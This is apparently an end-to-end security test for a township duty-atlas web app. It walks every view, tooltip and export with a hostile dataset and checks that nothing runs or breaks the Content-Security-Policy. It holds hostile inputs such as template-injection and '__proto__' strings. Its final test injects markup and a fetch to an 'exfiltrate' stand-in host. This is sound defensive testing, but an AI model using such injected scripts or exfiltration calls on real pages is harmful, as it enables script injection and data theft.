/**
 * A hostile list (tests/fixtures/hostile) beside the five bundled ones, served from a sub-folder as
 * an intranet server would: every view of the app's registry is walked twice (all townships, then
 * the hostile one alone), its marks hovered for their tooltips, an item's detail opened, a chart
 * exported as SVG and its table as CSV, and the deck opened. Throughout, nothing the data holds may
 * run or become an element, its text must be on screen as written, the page's Content-Security-
 * Policy must never be violated and nothing may be asked of another origin.
 */
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { DOMParser } from '@xmldom/xmldom';
import initSqlJs from 'sql.js';
import type { Browser, BrowserContext, Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium, VIEWPORT } from './browser';
import { guardContext, smuggled, type PageGuard } from './page-guard';
import { buildHostileData, HOSTILE_TOWNSHIP_NAME, MARKUP } from '../fixtures/hostile/hostile-data';
import { copyApp } from '../../scripts/lib/synthetic-site';
import { serveSite, type ServedSite } from '../../scripts/lib/serve-site';
import { VIEW_LABELS, type ViewId } from '../../src/lib/ui/strings';
import { NOTES } from '../../src/lib/present/strings';

const ROOT = resolve(import.meta.dirname, '../..');
const DIR = resolve(ROOT, '.e2e-hostile');
/** A sub-folder, as an intranet server would put the site: the page's policy and paths must hold there too. */
const BASE = '/intranet/duty-atlas/';
const VIEWS = Object.keys(VIEW_LABELS) as ViewId[];
/** Marks hovered per view and walk: enough to meet every kind of tooltip, few enough for a 2-core machine. */
const HOVERS = 14;

/** Items of the built database whose name, department or steps hold `text`: what the page may show it in. */
interface Hostile {
  townshipId: string;
  itemNames: string[];
  categories: string[];
  /** Every (name, steps) text of every item, for counting what a search must find. */
  texts: string[][];
}

describe('a hostile list, walked through every view', () => {
  let site: ServedSite;
  let browser: Browser;
  let context: BrowserContext;
  let guard: PageGuard;
  let page: Page;
  let hostile: Hostile;
  /** What the walk met, for the figures the README quotes. */
  const met = { views: 0, hovers: 0, tooltips: 0, tooltipsWithData: 0, viewsShowingData: new Set<string>() };

  beforeAll(async () => {
    const built = await buildHostileData(DIR);
    copyApp(DIR); // the app of dist/ beside the hostile data/
    const SQL = await initSqlJs();
    const db = new SQL.Database(readFileSync(resolve(built.dataDir, 'duties.sqlite')));
    const column = (sql: string, params: string[] = []) => {
      const statement = db.prepare(sql);
      statement.bind(params);
      const rows: string[][] = [];
      while (statement.step()) rows.push(statement.get().map(String));
      statement.free();
      return rows;
    };
    hostile = {
      townshipId: built.townshipId,
      itemNames: column('SELECT name FROM items WHERE township_id = ?', [built.townshipId]).map((r) => r[0]),
      categories: column('SELECT DISTINCT category FROM items WHERE township_id = ?', [built.townshipId]).map((r) => r[0]),
      texts: column(`SELECT i.name || char(10) || coalesce((SELECT group_concat(s.text, char(10)) FROM steps s WHERE s.item_id = i.id), '')
                     FROM items i`).map((r) => r[0].split('\n')),
    };
    db.close();
    site = await serveSite(DIR, BASE);
    browser = await launchChromium();
    context = await browser.newContext({ viewport: VIEWPORT, locale: 'zh-CN', timezoneId: 'Asia/Shanghai' });
    guard = await guardContext(context, new URL(site.url).origin);
    page = await context.newPage();
    await page.goto(site.url);
    await page.waitForSelector('main[data-state="ready"]', { timeout: 20000 });
  }, 120000);

  afterAll(async () => {
    await browser?.close();
    await site?.close();
    console.log(`hostile walk: ${JSON.stringify({ ...met, viewsShowingData: [...met.viewsShowingData] })}, requests ${guard?.requests()}`);
  });

  /** Nothing ran, nothing became an element, nothing broke the policy or left the origin. */
  async function expectSafe(where: string) {
    const { pwned, elements } = await smuggled(page);
    expect(pwned, `${where}: a hostile string ran`).toBe(false);
    expect(elements, `${where}: elements from data`).toEqual([]);
    expect(await guard.violations(page), `${where}: CSP violations`).toEqual([]);
    expect(guard.foreign, `${where}: requests to another origin`).toEqual([]);
    expect(guard.errors, `${where}: console or page errors`).toEqual([]);
  }

  const HOSTILE_TEXT = [MARKUP.img, MARKUP.script, MARKUP.link, HOSTILE_TOWNSHIP_NAME, '{{7*7}}', '__proto__', 'constructor'];
  const holdsHostile = (text: string) => HOSTILE_TEXT.some((h) => text.includes(h));

  /**
   * Waits until the view's charts on screen are drawn (a slide with nothing to show says so and is
   * never marked drawn; the deck's print-only copy is not on screen) and nothing in its panel is loading.
   */
  async function settled(view: ViewId) {
    await page.locator(`main[data-view=${view}] #view-panel > *:visible`).first().waitFor({ timeout: 20000 });
    await page.waitForFunction(
      (empty) =>
        [...document.querySelectorAll<HTMLElement>('#view-panel figure.chart-frame')]
          .filter((f) => f.offsetParent !== null)
          .every((f) => f.hasAttribute('data-drawn') || f.textContent!.includes(empty)) &&
        !document.querySelector('#view-panel [data-testid=loading]'),
      NOTES.empty,
      { timeout: 20000 },
    );
  }

  /** Hovers up to HOVERS marks of the view's charts, spread over them, and reads each tooltip shown. */
  async function hoverMarks() {
    const boxes = await page.locator('#view-panel svg').evaluateAll((svgs) =>
      svgs
        .flatMap((svg) => [...svg.querySelectorAll('rect, circle, path, text')])
        .map((el) => el.getBoundingClientRect())
        .filter((r) => r.width > 2 && r.height > 2 && r.top > 0 && r.bottom < innerHeight && r.left > 0 && r.right < innerWidth)
        .map((r) => ({ x: r.left + r.width / 2, y: r.top + r.height / 2 })),
    );
    const step = Math.max(1, Math.floor(boxes.length / HOVERS));
    for (let i = 0; i < boxes.length && i / step < HOVERS; i += step) {
      await page.mouse.move(boxes[i].x, boxes[i].y);
      met.hovers++;
      const tooltip = page.locator('[role=tooltip]:visible');
      if (await tooltip.count()) {
        const text = (await tooltip.allTextContents()).join(' ');
        met.tooltips++;
        if (holdsHostile(text)) met.tooltipsWithData++;
      }
    }
    await page.mouse.move(1, 1);
  }

  async function walk(label: string) {
    for (const view of VIEWS) {
      await page.locator(`[role=tab][data-view=${view}]`).click();
      await settled(view);
      await hoverMarks();
      const text = await page.locator('#view-panel').innerText();
      if (holdsHostile(text)) met.viewsShowingData.add(view);
      met.views++;
      await expectSafe(`${label}: ${VIEW_LABELS[view]}`);
    }
  }

  it('walks every view with all townships: nothing runs, nothing breaks the policy', async () => {
    expect(page.url().startsWith(site.url)).toBe(true);
    // The hostile township's name is in the filter bar as text, exactly as written.
    await expect(page.locator(`[data-testid=filter-bar] [data-township="${hostile.townshipId}"]`).textContent()).resolves.toContain(
      HOSTILE_TOWNSHIP_NAME,
    );
    await walk('all townships');
  });

  it('walks every view again with the hostile township alone; its text is on screen as written', async () => {
    await page.locator(`[data-testid=filter-bar] [data-township="${hostile.townshipId}"]`).click();
    await page.waitForFunction((id) => new URL(location.href).searchParams.getAll('t').includes(id), hostile.townshipId);
    await walk('hostile township');
    await page.screenshot({ path: resolve(ROOT, 'tests/e2e/screenshots/hostile-categories.png') });
    // Its categories are drawn as labels: 事项类别 shows each as text.
    await page.locator('[role=tab][data-view=categories]').click();
    await settled('categories');
    const labels = await page.locator('#view-panel').innerText();
    for (const category of hostile.categories) expect(labels, category).toContain(category);
    await page.screenshot({ path: resolve(ROOT, 'tests/e2e/screenshots/hostile-categories.png') });
    expect(met.tooltips, 'tooltips met on the walk').toBeGreaterThan(0);
  });

  it('shows a hostile duty in 事项查询 and its detail as text, and finds its template syntax literally', async () => {
    await page.locator('[role=tab][data-view=explorer]').click();
    await settled('explorer');
    await page.getByTestId('search-input').fill('{{7*7}}');
    const expected = hostile.texts.filter((t) => t.some((s) => s.includes('{{7*7}}'))).length;
    await expect.poll(() => page.locator('[data-testid=results] [data-item]').count(), { timeout: 15000 }).toBe(expected);
    await page.locator('[data-testid=results] [data-item]').first().click();
    const detail = page.getByTestId('item-detail');
    await detail.getByTestId('detail-name').waitFor();
    const name = (await detail.getByTestId('detail-name').textContent()) ?? '';
    expect(hostile.itemNames).toContain(name);
    expect(holdsHostile(name)).toBe(true);
    await expect(detail.getByTestId('detail-township').textContent()).resolves.toContain(HOSTILE_TOWNSHIP_NAME);
    await page.screenshot({ path: resolve(ROOT, 'tests/e2e/screenshots/hostile-explorer-detail.png') });
    await expectSafe('item detail');
  });

  /** Clicks 导出 → `kind` in `menu` and returns the downloaded file. */
  async function exported(menu: Locator, kind: 'svg' | 'csv' | 'png2'): Promise<Buffer> {
    await menu.locator('.trigger').click();
    const [file] = await Promise.all([page.waitForEvent('download', { timeout: 30000 }), menu.locator(`[data-export="${kind}"]`).click()]);
    return readFileSync(await file.path());
  }

  it('exports the categories chart as SVG and PNG and its table as CSV with the hostile text as text', async () => {
    await page.locator('[role=tab][data-view=categories]').click();
    await settled('categories');
    const menu = page.locator('#view-panel [data-testid=export-menu]').first();
    const svg = (await exported(menu, 'svg')).toString('utf8');
    const doc = new DOMParser().parseFromString(svg, 'image/svg+xml');
    const root = doc.documentElement!;
    expect(root.nodeName).toBe('svg');
    for (const tag of ['img', 'image', 'script', 'foreignObject', 'a', 'iframe']) expect(doc.getElementsByTagName(tag).length, tag).toBe(0);
    const svgText = root.textContent ?? '';
    for (const category of hostile.categories.filter(holdsHostile)) expect(svgText, category).toContain(category);
    const csv = (await exported(menu, 'csv')).toString('utf8');
    for (const category of hostile.categories.filter(holdsHostile)) expect(csv, category).toContain(category);
    // The PNG is drawn from the SVG through an image of a blob: URL, inside the policy.
    expect((await exported(menu, 'png2')).subarray(1, 4).toString('ascii')).toBe('PNG');
    await expectSafe('exports');
  });

  it('exports the deck of the hostile township and walks its slides', async () => {
    await page.locator('[role=tab][data-view=present]').click();
    // 导出 PPT draws each chart slide's picture from its SVG, inside the policy.
    const [deck] = await Promise.all([page.waitForEvent('download', { timeout: 60000 }), page.getByTestId('present-export').click()]);
    expect(
      readFileSync(await deck.path())
        .subarray(0, 2)
        .toString('ascii'),
    ).toBe('PK');
    await expectSafe('导出 PPT');
    await page.getByTestId('present-start').click();
    const slide = page.locator('[data-testid=deck] [data-testid=slide]');
    await slide.waitFor();
    const seen = new Set<string>();
    for (let i = 0; i < 12; i++) {
      const counter = (await slide.getByTestId('slide-counter').textContent()) ?? '';
      if (seen.has(counter)) break;
      seen.add(counter);
      await page.waitForTimeout(150);
      await expectSafe(`slide ${counter}`);
      await page.keyboard.press('ArrowRight');
    }
    expect(seen.size).toBeGreaterThan(1);
    await page.keyboard.press('Escape');
  });

  it('would refuse markup that got in anyway: the policy blocks inline script, handlers and other origins, and the guard hears it', async () => {
    // Last: it provokes violations on purpose, in a page of its own.
    const probe = await context.newPage();
    await probe.goto(site.url);
    await probe.waitForSelector('main[data-state="ready"]', { timeout: 20000 });
    await probe.evaluate(
      ([img, script]) => {
        const box = document.createElement('div');
        // eslint-disable-next-line no-restricted-syntax -- the point: markup forced in past the app, to see the policy refuse it
        box.innerHTML = img;
        const tag = document.createElement('script');
        tag.textContent = script.replace(/<\/?script>/g, '');
        document.body.append(box, tag);
        void fetch('https://example.invalid/exfiltrate').catch(() => undefined);
      },
      [MARKUP.img, MARKUP.script],
    );
    await probe.waitForFunction(() => (window.__violations ?? []).length >= 3, undefined, { timeout: 5000 });
    const violations = await probe.evaluate(() => window.__violations ?? []);
    expect(await probe.evaluate(() => window.__pwned)).toBeUndefined();
    expect(violations.map((v) => v.split(' ')[0]).sort()).toEqual(['connect-src', 'script-src-attr', 'script-src-elem']);
    await probe.close();
  });
});
